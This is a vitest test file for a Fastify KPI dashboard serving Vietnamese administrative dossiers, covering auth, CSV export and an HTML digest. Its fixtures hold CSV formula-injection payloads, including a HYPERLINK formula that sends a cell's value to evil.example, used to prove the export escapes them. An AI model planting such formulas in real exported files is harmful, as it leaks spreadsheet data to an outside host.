import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UserAuthenticator } from '../../../server/auth/authenticator.js';
import { makeDecoyHash } from '../../../server/auth/password.js';
import { TokenService } from '../../../server/auth/token.js';
import { installErrorHandlers } from '../../../server/http/http-errors.js';
import { DigestService } from '../../../server/portal/digest-service.js';
import { KpiEngine } from '../../../server/portal/kpi-engine.js';
import { registerKpiRoutes } from '../../../server/portal/kpi-routes.js';
import { kpiCsvCell as csvCell } from '../../../src-shared/model/kpi-csv.js';
import { VigilStore } from '../../../server/store/vigil-store.js';
import type { ConnectorHealth, KpiBoard, KpiDrillResult } from '../../../src-shared/model/kpi.js';
import { DEFAULT_WORKING_CALENDAR } from '../../../src-shared/model/working-calendar.js';
import { testDossier, TEST_AGENCIES } from './support/dossier-fixtures.js';

const NOW = Date.parse('2026-02-11T09:00:00+07:00');
const AGENCIES = TEST_AGENCIES;

const dossier = testDossier;

const HEALTH: ConnectorHealth[] = [
  {
    id: 'dvc', name: 'Cổng DVC tỉnh', kind: 'http-json', lastSuccessAt: new Date(NOW - 60_000).toISOString(), lastAttemptAt: new Date(NOW - 60_000).toISOString(),
    lagMs: 120_000, watermark: '2026-02-11T01:58:00Z', consecutiveFailures: 0, nextAttemptAt: null, lastError: null, recordsIngested: 5, recordsSkipped: 0, recentSkips: [],
  },
];

describe('KPI routes', () => {
  let dir: string;
  let store: VigilStore;
  let app: FastifyInstance;
  const tokens: Record<string, string> = {};

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vigil-kpi-routes-'));
    store = VigilStore.open(dir);
    const tokenService = new TokenService('kpi-routes-test-secret-0123456789');
    for (const role of ['operator', 'supervisor', 'admin'] as const) {
      const user = store.users.create({ username: role, displayName: role, role, passwordHash: 'x' });
      tokens[role] = tokenService.issue(user.id).token;
    }
    const auth = new UserAuthenticator(store.users, tokenService, makeDecoyHash(4));
    const engine = new KpiEngine({ calendar: DEFAULT_WORKING_CALENDAR, atRiskWorkingHours: 24, now: () => NOW });
    engine.load(
      [
        dossier({ code: 'HS-1', procedure: { code: 'TT-9', name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', field: '+Lĩnh vực, "đặc biệt"', level: 'none' } }),
        dossier({ code: 'HS-2', dueAt: '2026-02-05T17:00:00+07:00', procedure: { code: 'TT-2', name: '@SUM(1+1)', field: '-Hộ tịch', level: 'full' } }),
        dossier({ code: 'HS-3', dueAt: '2026-03-05T17:00:00+07:00' }),
        dossier({ code: 'HS-4', handlingAgencyId: 'so-tp', receivedAt: '2026-02-11T08:00:00+07:00', dueAt: '2026-02-20T17:00:00+07:00', channel: 'counter' }),
      ],
      AGENCIES,
    );
    const digest = new DigestService({ source: engine, now: () => NOW });
    app = Fastify({ logger: false });
    installErrorHandlers(app);
    registerKpiRoutes(app, { auth, engine, digest, connectorHealth: () => HEALTH, staleAfterMs: 10 * 60_000 });
    await app.ready();
  });

  afterAll(async () => {
    await app?.close();
    store?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const get = (url: string, role?: keyof typeof tokens | 'bad') =>
    app.inject({ method: 'GET', url, headers: role ? { authorization: `Bearer ${role === 'bad' ? 'not.a.token' : tokens[role]}` } : {} });

  it('401 without a valid token, on every route', async () => {
    for (const url of ['/api/kpi/board', '/api/kpi/dossiers?scope=year&metric=received', '/api/kpi/export.csv?scope=year&metric=received', '/api/kpi/digest/so-tnmt']) {
      for (const role of [undefined, 'bad'] as const) {
        const response = await get(url, role);
        expect(response.statusCode, `${url} ${role}`).toBe(401);
        expect(response.json()).toMatchObject({ ok: false, code: 'unauthorized' });
      }
    }
  });

  it('serves the board to any signed-in role, with provenance', async () => {
    const response = await get('/api/kpi/board', 'operator');
    expect(response.statusCode).toBe(200);
    expect(response.headers['cache-control']).toBe('no-store');
    const { board } = response.json() as { board: KpiBoard };
    expect(board.totals.year).toMatchObject({ received: 4, inProgress: 4, overdue: 2, atRisk: 0 });
    expect(board.totals.today).toMatchObject({ received: 1, online: 0 });
    expect(board.provenance).toMatchObject({ stale: false, staleAfterMs: 600_000, lastUpdatedAt: new Date(NOW - 60_000).toISOString() });
    expect(board.provenance.sources[0]!.id).toBe('dvc');
    expect(board.overdueByAgency).toMatchObject([{ agencyId: 'so-tnmt', count: 2, dossiers: [{ code: 'HS-2' }, { code: 'HS-1' }] }]);
  });

  it('drills into a figure: total equals the board number', async () => {
    const response = await get('/api/kpi/dossiers?scope=year&metric=overdue&agencyId=so-tnmt', 'operator');
    expect(response.statusCode).toBe(200);
    const { result } = response.json() as { result: KpiDrillResult };
    expect(result.total).toBe(2);
    expect(result.figure).toEqual({ scope: 'year', metric: 'overdue', agencyId: 'so-tnmt' });
    expect(result.dossiers.map((d) => d.code)).toEqual(['HS-2', 'HS-1']);
    const limited = (await get('/api/kpi/dossiers?scope=year&metric=received&limit=1&field=', 'supervisor')).json() as { result: KpiDrillResult };
    expect(limited.result.total).toBe(4);
    expect(limited.result.dossiers.map((d) => d.code)).toEqual(['HS-4']);
  });

  it('400 with a clear message on a bad figure', async () => {
    const cases: [string, RegExp][] = [
      ['/api/kpi/dossiers?scope=week&metric=received', /^scope: /],
      ['/api/kpi/dossiers?scope=year&metric=everything', /^metric: /],
      ['/api/kpi/dossiers?metric=received', /^scope: /],
      ['/api/kpi/dossiers?scope=year&metric=received&agencyId=bad%20id', /^agencyId: agency id has illegal characters/],
      ['/api/kpi/dossiers?scope=year&metric=received&limit=0', /limit must be from 1 to 5000/],
      ['/api/kpi/dossiers?scope=year&metric=received&limit=abc', /limit must be a whole number/],
      ['/api/kpi/dossiers?scope=year&metric=received&limit=999999', /limit must be from 1 to 5000/],
      ['/api/kpi/dossiers?scope=year&scope=month&metric=received', /"scope" must be given once/],
      ['/api/kpi/dossiers?scope=year&metric=received&sort=code', /unknown query parameter "sort"/],
      ['/api/kpi/export.csv?scope=decade&metric=received', /^scope: /],
    ];
    for (const [url, message] of cases) {
      const response = await get(url, 'admin');
      expect(response.statusCode, url).toBe(400);
      const body = response.json() as { ok: boolean; code: string; message: string };
      expect(body, url).toMatchObject({ ok: false, code: 'bad-request' });
      expect(body.message, url).toMatch(message);
    }
    const unknown = await get('/api/kpi/dossiers?scope=year&metric=received&agencyId=so-khong-co', 'admin');
    expect(unknown.statusCode).toBe(404);
  });

  it('exports a figure as CSV (any signed-in role): BOM, header row, formula injection guarded', async () => {
    const response = await get('/api/kpi/export.csv?scope=year&metric=overdue', 'operator');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="kpi-year-overdue-2026-02-11.csv"');
    expect(response.headers['x-total-count']).toBe('2');
    expect(response.headers['x-vigil-truncated']).toBe('false');
    const raw = response.rawPayload;
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = raw.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]).toBe('Mã hồ sơ,Thủ tục,Lĩnh vực,Đơn vị xử lý,Tiếp nhận,Hạn xử lý,Hoàn thành,Trạng thái,Tình trạng,Giờ làm việc đến hạn');
    expect(lines[1]).toBe("HS-2,'@SUM(1+1),'-Hộ tịch,so-tnmt,2026-02-02 08:00,2026-02-05 17:00,,in_progress,overdue,-88");
    expect(lines[2]).toBe(`HS-1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")","'+Lĩnh vực, ""đặc biệt""",so-tnmt,2026-02-02 08:00,2026-02-10 17:00,,in_progress,overdue,-16`);
    expect(lines[3]).toBe('');
    expect(lines).toHaveLength(4);
    // No cell of the file starts with a formula character (outside quotes or just inside them).
    for (const line of lines.slice(1, 3)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!) {
        const text = cell.replace(/,$/, '').replace(/^"/, '');
        if (/^-\d/.test(text)) continue; // a number we wrote (working hours), not text
        expect(text, line).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const limited = await get('/api/kpi/export.csv?scope=year&metric=received&limit=1', 'admin');
    expect(limited.headers['x-total-count']).toBe('4');
    expect(limited.headers['x-vigil-truncated']).toBe('true');
    expect(limited.rawPayload.toString('utf8').split('\r\n')).toHaveLength(3);
  });

  it('serves an agency digest as HTML with a restrictive CSP; supervisors and admins only', async () => {
    expect((await get('/api/kpi/digest/so-tnmt', 'operator')).statusCode).toBe(403);
    const response = await get('/api/kpi/digest/so-tnmt', 'supervisor');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(response.headers['content-security-policy']).toContain("default-src 'none'");
    expect(response.body).toContain('Hồ sơ quá hạn (2)');
    expect(response.body).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1');
    expect((await get('/api/kpi/digest/khong-co', 'admin')).statusCode).toBe(404);
  });

  it('csvCell guards text, not the numbers it writes', () => {
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('+84 912')).toBe("'+84 912");
    expect(csvCell('-x')).toBe("'-x");
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(null)).toBe('');
    expect(csvCell('Hồ sơ')).toBe('Hồ sơ');
  });
});
